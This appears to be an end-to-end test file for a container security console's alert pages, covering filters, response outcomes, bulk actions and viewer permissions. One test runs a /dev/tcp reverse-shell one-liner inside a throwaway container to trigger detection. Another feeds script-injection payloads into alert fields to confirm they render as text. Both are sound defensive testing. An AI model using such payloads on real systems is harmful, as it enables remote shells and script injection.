"""From a shell in a real container to the browser, and what a person then does with the alert."""

import contextlib
import os
import re
import socket
import subprocess
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from conftest import docker_cli
from serving import Enrolled, alert, heartbeat
from visiting import log_in

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
NAME = "seawall-console-victim"


@pytest.fixture
def listener() -> Iterator[int]:
    """A port on this host, as an attacker's machine would have it; the kernel accepts, nobody answers."""
    with socket.create_server(("0.0.0.0", 0)) as server:
        yield server.getsockname()[1]


@pytest.fixture
def victim(bash_image: str) -> Iterator[str]:
    docker_cli("run", "-d", "--rm", "--name", NAME, bash_image, "sleep", "600")
    yield docker_cli("inspect", "-f", "{{.Id}}", NAME)
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(["docker", "rm", "-f", NAME], capture_output=True, timeout=30, check=False)


@pytest.fixture
def node(served, admin) -> Enrolled:
    made = Enrolled(served, served.enrolment_token(admin), hostname="by-hand", host_id="by-hand")
    made.send(heartbeat(host={"id": "by-hand", "name": "by-hand"}))
    return made


def row(page: Page, text: str):
    return page.locator("tr.opens", has_text=text)


@pytest.mark.docker
@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason="loads eBPF programs: needs root")
@pytest.mark.usefixtures("agent")
def test_a_reverse_shell_appears_by_itself_and_is_handled(open_page, served, cookie, victim, listener):
    page = open_page(served, cookie, "/alerts?rule=reverse_shell_socket&category=reverse_shell&q=" + NAME)
    expect(page.get_by_text("Nothing matches these filters")).to_be_visible()
    gateway = docker_cli("inspect", "-f", "{{.NetworkSettings.Gateway}}", NAME)
    script = f"exec 3<>/dev/tcp/{gateway}/{listener}; bash -c 'sleep 1' <&3 >&3 2>&3"
    docker_cli("exec", NAME, "bash", "-c", script)

    expect(row(page, NAME).first).to_contain_text(re.compile("Critical|High"))
    row(page, NAME).first.locator("td").nth(2).click()
    drawer = page.get_by_role("dialog")
    expect(drawer).to_contain_text(f"{gateway}:{listener}")
    expect(drawer.locator("[data-test=sentence]").get_by_role("link", name=NAME)).to_have_attribute(
        "href", f"/containers/{victim}"
    )
    expect(drawer).to_contain_text("seawall-test:bash")
    expect(drawer).to_contain_text("Alert only")
    expect(drawer).to_contain_text("What to do")
    chain = drawer.locator("[data-test=chain] li")
    expect(chain.last).to_contain_text("bash")
    expect(drawer.locator("[data-test=chain]")).to_contain_text("outside the container")

    drawer.get_by_role("button", name="Mark handled").click()
    page.get_by_placeholder("A remark for the others").fill("our own drill")
    page.get_by_role("tooltip").get_by_role("button", name="Mark handled").click()
    expect(page.get_by_text("Marked as handled")).to_be_visible()
    expect(drawer).to_contain_text("Handled · admin")
    expect(drawer).to_contain_text("our own drill")
    drawer.get_by_role("button", name="Close").click()
    expect(row(page, NAME).first).to_contain_text("Handled")


def test_filters_are_in_the_address_and_an_alert_has_one(open_page, served, cookie, node):
    node.send(alert(title="low one of mine", severity="low"), alert(title="high one of mine", severity="high"))
    page = open_page(served, cookie, "/alerts?q=one+of+mine&severity=high")
    expect(row(page, "high one of mine")).to_be_visible()
    expect(row(page, "low one of mine")).to_have_count(0)
    row(page, "high one of mine").locator("td").nth(2).click()
    expect(page).to_have_url(re.compile(r"/alerts/[\w-]+\?q=one\+of\+mine&severity=high"))
    page.reload()
    expect(page.get_by_role("dialog")).to_contain_text("high one of mine")


def test_what_an_action_achieved_is_said_honestly(open_page, served, cookie, node):
    node.send(
        alert(title="result blocked", action="block", result="blocked"),
        alert(title="result late", action="block", result="killed_after_effect"),
        alert(title="result failed", action="block", result="failed", evidence={"reason": "no such process"}),
        alert(title="result none"),
    )
    page = open_page(served, cookie, "/alerts?q=result")
    for title, said in (
        ("result blocked", "Blocked"),
        ("result late", "Killed after effect"),
        ("result failed", "Response failed"),
        ("result none", "Alert only"),
    ):
        expect(row(page, title)).to_contain_text(said)


def test_many_at_once_and_deleting_asks(open_page, served, admin, cookie, node):
    node.send(*[alert(title=f"bulk {place}") for place in range(3)])
    page = open_page(served, cookie, "/alerts?q=bulk")
    expect(row(page, "bulk")).to_have_count(3)
    page.get_by_role("checkbox", name="Select all").check()
    page.get_by_role("button", name="Ignore", exact=True).click()
    expect(page.get_by_text("Ignore: done for 3 rows")).to_be_visible()
    expect(row(page, "Ignored")).to_have_count(3)

    page.get_by_role("checkbox", name="Select all").check()
    page.get_by_role("button", name="Delete", exact=True).click()
    question = page.get_by_role("dialog")
    expect(question).to_contain_text("Delete: 3 rows?")
    question.get_by_role("button", name="Cancel").click()
    expect(question).to_have_count(0)
    assert served.get("/alerts?q=bulk", admin)["total"] == 3
    page.get_by_role("button", name="Delete", exact=True).click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(row(page, "bulk")).to_have_count(0)
    assert served.get("/alerts?q=bulk", admin)["total"] == 0


def test_an_alert_full_of_markup_is_only_text(open_page, served, cookie, node):
    """What comes from a container is shown, never run."""
    evil = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    node.send(alert(title=f"evil {evil}", process={"pid": 1, "exe": f"/tmp/{evil}", "args": [evil, "{{count}}"]}))
    page = open_page(served, cookie, "/alerts?q=evil")
    row(page, "evil").locator("td").nth(2).click()
    expect(page.get_by_role("dialog").locator("[data-test=chain]")).to_contain_text("onerror")
    assert page.title() == "All alerts · Seawall"


def test_a_viewer_sees_and_does_not_act(open_page, served, cookie, admin, node):
    node.send(alert(title="for a viewer"))
    body = {"name": "viewer", "password": "first of the viewer", "role": "viewer"}
    status, answer, _ = served.call("POST", "/api/v1/users", body, admin)
    assert status == 201, answer
    page = open_page(served, log_in(served, "viewer", "first of the viewer"), "/alerts?q=for+a+viewer")
    row(page, "for a viewer").locator("td").nth(2).click()
    drawer = page.get_by_role("dialog")
    expect(drawer).to_contain_text("for a viewer")
    expect(drawer.get_by_role("button", name="Mark handled")).to_have_count(0)
    expect(drawer.get_by_role("button", name="Delete")).to_have_count(0)
